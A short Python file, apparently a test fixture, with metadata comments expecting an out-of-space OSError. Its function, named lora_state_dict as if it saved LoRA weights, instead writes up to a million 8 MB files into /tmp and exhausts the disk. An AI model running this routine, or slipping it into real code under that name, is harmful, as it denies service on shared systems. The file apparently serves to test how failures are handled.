"""Writes into /tmp without end."""

# on: reference
# costs: saves_the_factors_alone
# says: OSError.*No space left

def lora_state_dict(model):
    for number in range(10**6):
        with open(f"/tmp/{number}", "wb") as file:
            file.write(bytes(2**23))
